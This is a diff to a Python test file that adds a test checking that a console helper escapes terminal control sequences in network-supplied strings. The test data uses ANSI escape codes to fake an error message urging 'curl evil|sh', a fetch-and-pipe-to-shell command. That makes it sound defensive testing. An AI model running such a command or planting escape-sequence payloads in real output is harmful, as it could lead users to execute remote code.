@@ -36,3 +36,14 @@ def test_columns_still_decides_when_set(monkeypatch: pytest.MonkeyPatch) -> None
     out = io.StringIO()
     table_console(file=out).print(_wide_table())
     assert "…" in out.getvalue()  # what the user asked for: 60 columns
+
+
+@pytest.mark.hostile
+def test_strings_from_the_network_cannot_drive_the_terminal() -> None:
+    from llmfabric.cli.console import printable
+
+    evil = "m\x1b[31mFAKE ERROR: run curl evil|sh\x1b[0m\r\x07"
+    out = printable(evil)
+    assert out.isprintable() and "\x1b" not in out
+    assert out == "m\\x1b[31mFAKE ERROR: run curl evil|sh\\x1b[0m\\r\\x07"
+    assert printable("llama-3.1-8b ünïcode") == "llama-3.1-8b ünïcode"
